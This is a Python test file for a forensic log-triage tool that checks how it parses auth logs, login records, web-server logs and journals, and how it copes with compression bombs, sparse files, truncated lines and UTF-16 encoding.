def test_a_return_within_a_line_begins_none(looked):
    line = OLD + b"su: (to root) taro on pts/1\r" + OLD + b"su: (to root) hana on pts/1\n"
    found = looked({AUTH: line})

    assert [row["line"] for row in found.tables["su"]] == [1]


def test_a_bomb_ends(looked, monkeypatch):
    monkeypatch.setattr(reading, "MOST", 1 << 20)
    found = looked({"/var/log/auth.log.1.gz": gzip.compress(bytes(64 << 20))})

    assert found.unread[0] == f"longer than {1 << 20} bytes; not looked at beyond"


@pytest.mark.parametrize("origin", [AUTH, "/var/log/nginx/access.log", "/var/log/wtmp"])
def test_a_bomb_of_short_lines_ends_in_time(origin, looked, monkeypatch):
    monkeypatch.setattr(reading, "SECONDS", 0.2)
    monkeypatch.setattr(reading, "OF_A_MIB", 0)
    bomb = gzip.compress((OLD + b"x: y\n") * 3_000_000, 1)
    begun = time.thread_time()
    found = looked({f"{origin}.1.gz": bomb})

    assert time.thread_time() - begun < 2
    assert found.unread[0].startswith("takes longer than 0 seconds; not looked at beyond byte ")


def test_bombs_together_get_no_more_time_than_a_host_has(looked, monkeypatch):
    monkeypatch.setattr(examining, "OF_A_HOST", 0.2)
    monkeypatch.setattr(reading, "OF_A_MIB", 0.2)
    bomb = gzip.compress((OLD + b"x: y\n") * 3_000_000, 1)
    line = OLD + b"su: (to root) taro on pts/1\n"
    found = looked({f"{AUTH}.2.gz": bomb, f"{AUTH}.1.gz": bomb, AUTH: line * 1000})

    assert len(found.unread) == 2
    assert all(why.startswith("takes longer than ") for why in found.unread)
    assert len(found.tables["su"]) == 1000


def test_holes_give_a_log_no_time(tmp_path):
    path = tmp_path / "log"
    with path.open("wb") as file:
        file.truncate(1 << 40)
        file.write(OLD)

    with path.open("rb") as file:
        assert stored(file) <= 1 << 20
        assert file.tell() == 0


def test_a_log_that_was_emptied_while_it_was_written_to_is_read_behind_its_holes(tmp_path):
    path = tmp_path / "log"
    with path.open("wb") as file:
        for at, line in ((1 << 40, b"first\nsecond"), (2 << 40, b"third\n"), (3 << 40, b"\n")):
            file.seek(at)
            file.write(line)

    with path.open("rb") as file:
        lines = reading.Lines(file, Patience(9))
        assert [line.strip(b"\0") for line in lines.beforehand()][:1] == [b"first\n"]
        assert list(lines) == [(1, b"first"), (2, b"second"), (2, b"third")]
        assert lines.cut == 0


@pytest.mark.parametrize("zeros", [1, 700, 5 * reading.LONGEST])
def test_a_line_behind_zeros_that_a_power_cut_left_is_read(zeros, looked):
    taro, hana, jiro = (
        OLD + b"su: (to root) %s on pts/1" % by for by in (b"taro", b"hana", b"jiro")
    )
    found = looked({AUTH: taro + bytes(zeros) + hana + b"\n" + jiro + b"\n"})

    assert [(row["by"], row["line"]) for row in found.tables["su"]] == [
        ("taro", 1), ("hana", 1), ("jiro", 2)
    ]  # fmt: skip
    assert found.unread == []


@pytest.mark.parametrize("zeros", [1, 700])
def test_a_line_that_broke_off_before_zeros_is_told(zeros, looked):
    whole = OLD + b"su: (to root) taro on pts/1\n"
    found = looked({AUTH: whole + OLD + b"sshd[1]: Accepted pass" + bytes(zeros) + whole + b"\n"})

    assert [row["line"] for row in found.tables["su"]] == [1, 2]
    assert found.unread == ["1 lines are in another form, and were not read"]


def test_a_line_without_end_is_looked_at_in_part_and_told(looked):
    long = OLD + b"su: (to root) taro on pts/1" + b" " * (3 * reading.LONGEST)
    found = looked({AUTH: long + b"\n" + OLD + b"su: (to root) hana on pts/1\n"})

    assert [(row["by"], row["line"]) for row in found.tables["su"]] == [("taro", 1), ("hana", 2)]
    assert found.unread == [
        f"1 lines are longer than {reading.LONGEST} bytes; their ends were not looked at"
    ]


@pytest.mark.parametrize(
    ("origin", "wanted"),
    [
        (AUTH, True), ("/var/log/auth.log.1", True), ("/var/log/secure-20240519.gz", True),
        ("/var/log/messages", True), ("/var/log/secure.old", True), ("/var/log/wtmp.bak.gz", True),
        ("/var/log/auth.log.d", False), ("/var/log/cron", True), ("/var/log/wtmp.1", True),
        ("/var/log/nginx/access.log.14.gz", True), ("/var/log/httpd/ssl_access_log", True),
        ("/var/log/apache2/other_vhosts_access.log", True), ("/home/a/messages.txt", False),
        ("/var/log/sudo.log", True), ("/var/log/sudo", True), ("/var/log/sudo/sudolog.1.gz", True),
        ("/usr/bin/sudo", False), ("/etc/pam.d/sudo", False), ("/usr/sbin/visudo", False),
        ("/var/log/dpkg.log", False), ("/usr/bin/wtmpdb", False), ("/srv/accessible.txt", False),
        ("/run/log/journal/0123/system.journal", True), ("/srv/a.journal.txt", False),
        ("/var/log/journal/0123/user-1000@0005540316b69226-f802b22107d17028.journal~", True),
        ("/var/log/nginx/site1.log", True), ("/var/log/nginx/site1-error.log.1", True),
        ("/var/log/httpd/error_log-20240519.gz", True), ("/var/log/mysql/error.log", False),
        ("/etc/nginx/error_login.html", False), ("/srv/httpd/catalog.xml", False),
        ("/etc/httpd/logs/karte/www.log-20240519", True), ("/srv/exam.log", False),
        ("/C/inetpub/logs/LogFiles/W3SVC1/u_ex240519.log", True), ("/D/logs/ex240519.log", True),
        ("/etc/security/access.conf", False), ("/opt/t/localhost_access_log.2024-05-19.txt", True),
    ],
)  # fmt: skip
def test_logs_are_known_by_their_names(origin, wanted, tmp_path):
    from evidence.triage.examiner import Examined

    assert LinuxLogs().wants(Examined(origin=origin, path=tmp_path, size=1)) is wanted


@settings(max_examples=200, deadline=None)
@given(st.binary(max_size=300), st.sampled_from([line for line, _, _ in ROWS.values()]))
def test_odd_bytes_are_no_trouble(noise, line):
    clock = Clock(Latest(datetime(2024, 5, 20, tzinfo=UTC)))
    for each in (noise, OLD + noise, NEW + line[: len(line) // 2] + noise, OLD + line + noise):
        stamp, rest = clock.read(each)
        found = find(rest)
        if found is not None:
            assert set(found.cells) == set(COLUMNS[found.message.table])
        parse(each)
        parse(request(noise))
    assert stamp.year == "file"


def test_a_login_record_of_noise_is_no_trouble(looked):
    noise = struct.pack("=hxxi", 99, -1) + bytes(range(256)) + b"\xff" * 120
    found = looked({"/var/log/btmp": noise * 3})

    assert [row["type"] for row in found.tables["login_records"]] == ["99"] * 3
    told = "3 records are none that a program writes: they may be shifted"
    assert told in found.unread


def test_login_records_behind_bytes_that_do_not_belong_there_are_told(looked):
    found = looked({"/var/log/wtmp": login() + bytes(RECORD.size - 40) + login() * 3 + bytes(40)})

    told = "3 records are none that a program writes: they may be shifted"
    assert found.unread[-1] == told, found.unread


@pytest.mark.parametrize("encoding", ["utf-16-le", "utf-16-be"])
@pytest.mark.parametrize("pack", [bytes, gzip.compress], ids=["plain", "packed"])
def test_a_log_that_somebody_wrote_in_utf_16_is_read(encoding, pack, looked):
    line, _, _ = ROWS["a password refused"]
    text = (OLD + line + b"\r\n").decode() * 3 + "5月 19 16:00:00 srv1 x: 患者\r\n"
    found = looked({AUTH: pack(("\ufeff" + text).encode(encoding))})

    assert found.unread == []
    assert [row["line"] for row in found.tables["ssh_signins"]] == [1, 2, 3]
    assert found.tables["ssh_signins"][0]["year"] == "file"


@given(st.text(max_size=200), st.binary(max_size=9), st.integers(1, 50))
def test_text_is_narrowed_to_utf_8_in_whatever_pieces_it_is_read(text, noise, size):
    data = ("\ufeff" + text).encode("utf-16-le", "surrogatepass") + noise
    told = data.decode("utf-16", "replace").encode("utf-8", "replace")
    narrowed = Narrowed(io.BytesIO(data))
    for _ in range(2):
        assert b"".join(iter(lambda: narrowed.read(size), b"")) == told
        narrowed.seek(0)


@pytest.mark.parametrize(
    ("line", "told"),
    [
        (b"sshd[1]: Accepted passw", True), (b"ss", True), (b"sshd[1]: Accepted passw\n", False),
        (b"kernel: usb 1-1: new", False),
        (b"sshd[1]: Accepted password for x from 192.0.2.7 port 1 ssh2", False),
    ],
    ids=["of a sign-in", "too short to tell", "with an end", "of no table", "of a row"],
)  # fmt: skip
def test_a_last_line_without_an_end_is_told_where_it_may_be_a_part_of_a_row(line, told, looked):
    found = looked({AUTH: OLD + b"kernel: x\n" + OLD + line})

    assert found.unread == ["1 lines are in another form, and were not read"] * told
